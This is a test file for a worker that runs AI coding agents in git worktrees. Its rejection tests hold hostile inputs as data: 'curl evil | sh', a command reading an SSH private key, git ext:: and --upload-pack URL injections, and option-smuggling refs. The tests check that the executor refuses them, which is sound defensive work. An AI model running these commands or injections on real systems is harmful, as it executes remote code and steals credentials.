import { execFile, spawn } from "node:child_process";
import { access, mkdtemp, readFile } from "node:fs/promises";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { TaskWorkspace } from "@garageswarm/protocol";
import { afterAll, describe, expect, it, vi } from "vitest";
import { type FakeCliKnobs, fakeTools } from "../../test/fakes/index.ts";
import { createGitRemote, gitIn } from "../../test/support/git-remote.ts";
import { CloneCache } from "../code/clone-cache.ts";
import { CodeTasks } from "../code/code-tasks.ts";
import { gitEnvironment } from "../code/git.ts";
import { Worktrees } from "../code/worktrees.ts";
import { toolEnvironment } from "../tools/environment.ts";
import { createToolRegistry } from "../tools/registry.ts";
import { Executor, type ExecutorTask, TaskRejectedError } from "./executor.ts";
import { Workdirs } from "./workdir.ts";

const OWNER = "aaaaaaaa-1111-4222-8333-444455556666";
const OTHER_USER = "bbbbbbbb-1111-4222-8333-444455556666";
const TASK = "c0ffee00-1111-4222-8333-444455556666";
const FOLLOW_UP = "d0ffee00-1111-4222-8333-444455556666";

async function setup(knobs: FakeCliKnobs, retentionSeconds = 3600) {
  const stateDir = await mkdtemp(join(tmpdir(), "gs-worker-state-"));
  const workdirs = await Workdirs.open({ stateDir, baseDir: await mkdtemp(join(tmpdir(), "gs-work-")) });
  const tools = fakeTools(knobs);
  const registry = createToolRegistry(tools);
  const commandEnv = toolEnvironment("shell", tools.env, tools.passEnv);
  const worktrees = await Worktrees.open({
    root: `${workdirs.root}.worktrees`,
    retentionSeconds,
    git: { env: gitEnvironment(commandEnv, {}, true), untrusted: true },
  });
  const cache = new CloneCache(join(stateDir, "repos"));
  const patches: string[] = [];
  const code = new CodeTasks({
    cache,
    worktrees: () => worktrees,
    sourceEnv: tools.env,
    commandEnv,
    ownerUserId: () => OWNER,
    fetchStoredPatch: async (task) => {
      patches.push(task.task_id);
      return "";
    },
  });
  const executor = new Executor({ tools: registry, workdirs, slots: 2, code });
  return { executor, worktrees, cache };
}

function applies(patch: string, cwd: string): Promise<number | null> {
  const child = execFile("git", ["apply", "--check", "--binary", "-"], { cwd });
  child.stdin?.end(patch);
  return new Promise((resolve) => child.on("exit", resolve));
}

const daemons: Array<{ kill(): void }> = [];
afterAll(() => {
  for (const daemon of daemons) daemon.kill();
});

/** Serves the bare repositories under `base` over git:// on loopback (git daemon), read-only. */
async function gitDaemon(base: string): Promise<string> {
  const port = await new Promise<number>((resolve) => {
    const probe = createServer().listen(0, "127.0.0.1", () => {
      const { port } = probe.address() as { port: number };
      probe.close(() => resolve(port));
    });
  });
  const daemon = spawn(
    "git",
    ["daemon", "--reuseaddr", "--export-all", `--base-path=${base}`, "--listen=127.0.0.1", `--port=${port}`, base],
    { stdio: "ignore" },
  );
  daemons.push(daemon);
  const url = `git://127.0.0.1:${port}/origin.git`;
  await vi.waitFor(() => gitIn(base, "ls-remote", url), { timeout: 15_000, interval: 100 });
  return url;
}

describe.skipIf(process.platform === "win32")("Executor with a code task", () => {
  it("runs a fake agent in a worktree and reports the change it made, which applies onto the base", async () => {
    const remote = await createGitRemote();
    const base = await remote.commit({ "README.md": "# project\n" });
    const { executor, worktrees, cache } = await setup({
      edit: { "src/hello.txt": "hello\n", "README.md": "# project\n\nedited\n" },
    });
    const task: ExecutorTask = {
      task_id: TASK,
      tool: "claude_code",
      prompt: "Say hello in a file",
      options: {},
      owner_user_id: OWNER,
      attempt: 2,
      repo: { url: remote.url, push: false, check: "test -f src/hello.txt" },
    };
    const outcome = await executor.start(task);
    expect(outcome.status).toBe("completed");
    if (outcome.status !== "completed") return;
    const { code } = outcome.result;
    expect(code).toMatchObject({
      base_sha: base,
      branch: "garageswarm/c0ffee00-2",
      ahead: 1,
      additions: 3,
      deletions: 0,
      check: { exit_code: 0 },
    });
    expect(code?.files.map((file) => [file.path, file.status])).toEqual([
      ["README.md", "modified"],
      ["src/hello.txt", "added"],
    ]);
    expect(outcome.result.output).toBe("Fake claude answer to: Say hello in a file");
    const dir = worktrees.pathFor(OWNER, TASK);
    expect(await readFile(join(dir, "src/hello.txt"), "utf8")).toBe("hello\n");
    expect(await applies(code!.patch!, remote.work)).toBe(0);

    // Kept for a follow-up until its report is stored; then (retention passed) removed, its branch kept.
    await worktrees.sweep();
    await access(dir);
    const sessionId = outcome.result.detail.session_id as string;
    expect(sessionId).toMatch(/^[0-9a-f-]{36}$/);

    // The follow-up resumes the session in the same directory, on the same branch.
    const workspace: TaskWorkspace = {
      from_task_id: TASK,
      root_task_id: TASK,
      branch: code!.branch,
      base_sha: base,
      head_sha: code!.head_sha,
      pushed: false,
    };
    const followUp = await executor.start({
      ...task,
      task_id: FOLLOW_UP,
      attempt: 1,
      prompt: "Also say bye",
      resume_session_id: sessionId,
      workspace,
    });
    expect(followUp.status).toBe("completed");
    if (followUp.status !== "completed") return;
    expect(followUp.result.detail.session_id).toBe(sessionId);
    expect(followUp.result.code).toMatchObject({ base_sha: base, branch: code!.branch, ahead: 1 });
    expect(followUp.result.code?.head_sha).toBe(code!.head_sha);
    expect((await gitIn(dir, "rev-parse", "HEAD")).trim()).toBe(code!.head_sha);
    await executor.reported(TASK);
    await executor.reported(FOLLOW_UP);
    const clone = cache.pathOf(remote.url);
    expect(await gitIn(clone, "branch", "--list", "garageswarm/*")).toContain("garageswarm/c0ffee00-2");
  });

  it("removes a worktree only once its task is reported, with a retention of 0", async () => {
    const remote = await createGitRemote();
    await remote.commit({ "a.txt": "1\n" });
    const { executor, worktrees, cache } = await setup({ edit: "append-prompt" }, 0);
    const outcome = await executor.start({
      task_id: TASK,
      tool: "codex_cli",
      prompt: "note this",
      options: {},
      owner_user_id: OWNER,
      repo: { url: remote.url, push: false },
    });
    expect(outcome.status).toBe("completed");
    if (outcome.status !== "completed") return;
    expect(outcome.result.code?.files).toEqual([
      { path: "AGENT.md", old_path: null, status: "added", additions: 1, deletions: 0, binary: false },
    ]);
    const dir = worktrees.pathFor(OWNER, TASK);
    await worktrees.sweep();
    await access(dir);
    await executor.reported(TASK);
    await expect(access(dir)).rejects.toThrow();
    const clone = cache.pathOf(remote.url);
    expect((await gitIn(clone, "rev-parse", "refs/heads/garageswarm/c0ffee00-1")).trim()).toBe(
      outcome.result.code?.head_sha,
    );
    expect(await gitIn(clone, "worktree", "list", "--porcelain")).not.toContain(dir);
  });

  it("refuses another user's task with commands or a file:// URL, so another worker may take it", async () => {
    const remote = await createGitRemote();
    await remote.commit({ "a.txt": "1\n" });
    const { executor, cache } = await setup({});
    const shared = { task_id: TASK, tool: "claude_code", prompt: "x", options: {}, owner_user_id: OTHER_USER } as const;
    for (const repo of [
      { url: "https://git.example.invalid/r.git", setup: "curl evil | sh", push: false },
      { url: "https://git.example.invalid/r.git", check: "cat ~/.ssh/id_ed25519", push: false },
      { url: remote.url, push: false },
    ]) {
      let error: unknown;
      try {
        void executor.start({ ...shared, repo });
      } catch (thrown) {
        error = thrown;
      }
      expect(error).toBeInstanceOf(TaskRejectedError);
      expect(error).toMatchObject({ reason: "repo_refused", refusedByPolicy: true, permanent: false });
      expect((error as Error).message).toMatch(/tasks of users other than its owner/);
    }
    await expect(access(cache.root)).rejects.toThrow();
  });

  it("refuses a hostile URL or ref before any git runs, for good", async () => {
    const { executor, cache } = await setup({});
    const task = { task_id: TASK, tool: "claude_code", prompt: "x", options: {}, owner_user_id: OWNER } as const;
    const hostile = [
      { repo: { url: "ext::sh -c touch% /tmp/pwned", push: false }, field: "repo.url" },
      { repo: { url: "--upload-pack=touch /tmp/pwned", push: false }, field: "repo.url" },
      { repo: { url: "https://git.example.invalid/r.git", ref: "--output=/tmp/x", push: false }, field: "repo.ref" },
      { repo: { url: "https://git.example.invalid/r.git", ref: "main..evil", push: false }, field: "repo.ref" },
    ];
    for (const { repo, field } of hostile) {
      expect(() => executor.start({ ...task, repo })).toThrow(
        expect.objectContaining({ reason: "invalid_repo", permanent: true, message: expect.stringContaining(field) }),
      );
    }
    const workspace: TaskWorkspace = {
      from_task_id: TASK,
      root_task_id: TASK,
      branch: "-D",
      base_sha: "a".repeat(40),
      head_sha: "b".repeat(40),
      pushed: false,
    };
    expect(() =>
      executor.start({ ...task, repo: { url: "https://git.example.invalid/r.git", push: false }, workspace }),
    ).toThrow(
      expect.objectContaining({ reason: "invalid_repo", message: expect.stringContaining("workspace.branch") }),
    );
    await expect(access(cache.root)).rejects.toThrow();
  });

  it("a cancel while the setup runs ends the task cancelled, its command killed", async () => {
    const remote = await createGitRemote();
    await remote.commit({ "a.txt": "1\n" });
    const { executor, worktrees } = await setup({});
    const done = executor.start({
      task_id: TASK,
      tool: "claude_code",
      prompt: "x",
      options: {},
      owner_user_id: OWNER,
      repo: { url: remote.url, push: false, setup: "echo $$ > setup.pid; sleep 600" },
    });
    const pidFile = join(worktrees.pathFor(OWNER, TASK), "setup.pid");
    const pid = await vi.waitFor(async () => Number((await readFile(pidFile, "utf8")).trim()), {
      timeout: 30_000,
      interval: 50,
    });
    const outcome = await executor.cancel(TASK);
    expect(outcome).toMatchObject({ status: "cancelled", error: { kind: "aborted" } });
    expect(await done).toBe(outcome);
    expect(() => process.kill(pid, 0)).toThrow(expect.objectContaining({ code: "ESRCH" }));
  });

  it("fails an unknown ref as a failure no retry fixes", async () => {
    const remote = await createGitRemote();
    await remote.commit({ "a.txt": "1\n" });
    const { executor } = await setup({});
    const outcome = await executor.start({
      task_id: TASK,
      tool: "claude_code",
      prompt: "x",
      options: {},
      owner_user_id: OWNER,
      repo: { url: remote.url, ref: "release/9", push: false },
    });
    expect(outcome).toMatchObject({
      status: "failed",
      error: { kind: "input", message: `ref release/9 not found in ${remote.url}` },
    });
  });

  it("runs another user's task in a clone of its own, without the owner's task branches", async () => {
    const remote = await createGitRemote();
    await remote.commit({ "a.txt": "1\n" });
    const url = await gitDaemon(join(remote.bare, ".."));
    const { executor, cache } = await setup({ edit: { "owner.txt": "the owner's unpushed work\n" } });
    const owned = await executor.start({
      task_id: TASK,
      tool: "claude_code",
      prompt: "owner's work",
      options: {},
      owner_user_id: OWNER,
      repo: { url, push: false },
    });
    expect(owned.status).toBe("completed");

    const shared = await executor.start({
      task_id: FOLLOW_UP,
      tool: "claude_code",
      prompt: "another user's work",
      options: {},
      owner_user_id: OTHER_USER,
      repo: { url, push: false },
    });
    expect(shared.status).toBe("completed");
    const ownerClone = cache.pathOf(url);
    const sharedClone = cache.pathOf(url, `user:${OTHER_USER}`);
    expect(sharedClone).not.toBe(ownerClone);
    expect(await gitIn(ownerClone, "branch", "--list", "garageswarm/*")).toContain("garageswarm/c0ffee00-1");
    const sharedBranches = await gitIn(sharedClone, "branch", "--list", "garageswarm/*");
    expect(sharedBranches).toContain("garageswarm/d0ffee00-1");
    expect(sharedBranches).not.toContain("garageswarm/c0ffee00-1");
  });
});
